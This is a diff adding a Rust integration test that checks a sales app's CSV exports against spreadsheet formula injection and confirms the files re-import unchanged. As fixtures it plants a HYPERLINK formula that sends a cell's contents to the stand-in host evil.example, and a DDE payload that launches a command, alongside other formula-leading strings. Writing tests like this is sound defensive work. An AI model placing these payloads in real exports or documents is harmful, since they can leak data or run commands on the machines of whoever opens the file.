@@ -1,0 +1,174 @@
+//! The holes of issue 9, closed, on SQLite and PostgreSQL: redirects after sign-in stay on
+//! the site, parallel sign-ins cannot get past the lockout (and the owner's own device is
+//! not locked out), exported CSV cells never run as spreadsheet formulas, signed-in pages
+//! are not cached, and the cross-site check and cookies follow the scheme.
+
+mod common;
+
+use common::{fixture, scalar, Engine, TestApp, PASSWORD};
+use serde_json::{json, Value};
+
+on_both_engines!(exported_cells_never_run_as_formulas_and_import_back_unchanged,);
+
+const LINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+
+async fn post_api(app: &TestApp, token: &str, path: &str, body: &Value) -> Value {
+    let res = reqwest::Client::new()
+        .post(app.at(path))
+        .bearer_auth(token)
+        .json(body)
+        .send()
+        .await
+        .unwrap();
+    let status = res.status();
+    let body: Value = res.json().await.unwrap();
+    assert!(status.is_success(), "{path}: {status} {body}");
+    body
+}
+
+async fn token(app: &TestApp, scope: &str) -> String {
+    pacesetter::server::tokens::create_api_token(&app.db, "test", scope, &[scope.to_string()])
+        .await
+        .unwrap()
+        .1
+}
+
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// Notes, accounts, deal, person and team names planted through the API come out of every
+/// export as text (`'=…`), and the activity and deal files import back changing nothing.
+async fn exported_cells_never_run_as_formulas_and_import_back_unchanged(engine: Engine) {
+    let app = TestApp::start(engine).await;
+    fixture(&app).await;
+    let (admin_token, ingest) = (token(&app, "admin").await, token(&app, "ingest").await);
+    let planted = [
+        LINK,
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "=1+1",
+        "'=already quoted",
+    ];
+    post_api(
+        &app,
+        &admin_token,
+        "/api/v1/users",
+        &json!({"email": "mallory@example.com", "name": LINK, "team": planted[2],
+            "sales_role": "sdr", "password": "long-enough-password"}),
+    )
+    .await;
+    post_api(
+        &app,
+        &ingest,
+        "/api/v1/activities",
+        &json!({"rep_email": "mallory@example.com", "type": "call", "occurred_at": "2025-06-10T10:00:00Z",
+            "note": LINK, "account": planted[1], "source": "dialler", "external_id": planted[3]}),
+    )
+    .await;
+    post_api(
+        &app,
+        &ingest,
+        "/api/v1/activities",
+        &json!({"rep_email": "ada@example.com", "type": "call", "occurred_at": "2025-06-11T10:00:00Z",
+            "note": planted[5], "account": planted[4], "source": "dialler", "external_id": "c-2"}),
+    )
+    .await;
+    post_api(
+        &app,
+        &ingest,
+        "/api/v1/deals",
+        &json!({"rep_email": "mallory@example.com", "name": planted[2], "account": LINK, "amount": 1000,
+            "currency": "EUR", "stage": "Proposal", "probability": 50, "created_on": "2025-06-02", "source": "crm", "external_id": "D-1"}),
+    )
+    .await;
+    let sdr = scalar(&app.db, "SELECT id FROM sales_roles WHERE key = 'sdr'").await;
+    common::exec(&app.db, &format!("INSERT INTO scorecard_metrics (sales_role_id, metric, is_leading, weight, sort_order) VALUES ({sdr}, 'activity_score', TRUE, 1, 0)")).await;
+    let stored = |sql: &'static str| {
+        let db = app.db.clone();
+        async move {
+            match &db {
+                pacesetter::server::db::Db::Sqlite(p) => {
+                    sqlx::query_as::<_, (String, String)>(sql)
+                        .fetch_all(p)
+                        .await
+                }
+                pacesetter::server::db::Db::Postgres(p) => {
+                    sqlx::query_as::<_, (String, String)>(sql)
+                        .fetch_all(p)
+                        .await
+                }
+            }
+            .unwrap()
+        }
+    };
+    let activities_sql = "SELECT note, account FROM activities ORDER BY id";
+    let deals_sql = "SELECT name, account FROM deals ORDER BY id";
+    let before = (stored(activities_sql).await, stored(deals_sql).await);
+    assert_eq!(before.0[0], (LINK.to_string(), planted[1].to_string()));
+
+    let admin = app.signed_in("root@example.com", PASSWORD).await;
+    let mut files = Vec::new();
+    for path in [
+        "/export/activities.csv",
+        "/export/deals.csv",
+        "/export/leaderboard.csv?period=month&date=2025-06-15",
+        "/export/scorecards.csv?period=month&date=2025-06-15",
+    ] {
+        let res = admin.get(app.at(path)).send().await.unwrap();
+        assert_eq!(res.status(), 200, "{path}");
+        let text = res.text().await.unwrap();
+        let cells: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
+        for cell in &cells {
+            let numeric = cell.parse::<f64>().is_ok();
+            assert!(
+                numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{path}: live cell {cell:?} in\n{text}"
+            );
+        }
+        assert!(
+            cells.iter().any(|c| c == &format!("'{LINK}")),
+            "{path}: the planted formula is missing\n{text}"
+        );
+        files.push(text);
+    }
+    let activities = parse_csv(&files[0]);
+    assert!(activities[1..]
+        .iter()
+        .any(|r| r[6] == format!("'{}", planted[1]) && r[8] == "'-2+3"));
+    assert!(activities[1..]
+        .iter()
+        .any(|r| r[5] == "''=already quoted" && r[6] == "'=1+1"));
+    assert!(
+        parse_csv(&files[2]).iter().any(|r| r[3] == "'@SUM(1+1)"),
+        "team name"
+    );
+
+    for (kind, file, rows) in [("activities", &files[0], 2), ("deals", &files[1], 1)] {
+        let res = app
+            .call(
+                &admin,
+                "admin_import_csv",
+                &[("kind", kind), ("csv", file), ("dry_run", "false")],
+            )
+            .await;
+        let report: Value = res.json().await.unwrap();
+        assert_eq!(report["errors"], json!([]), "{kind}: {report}");
+        assert_eq!(
+            (report["created"].as_u64(), report["updated"].as_u64()),
+            (Some(0), Some(rows)),
+            "{kind}: {report}"
+        );
+    }
+    assert_eq!(
+        (stored(activities_sql).await, stored(deals_sql).await),
+        before,
+        "values kept exactly"
+    );
+}
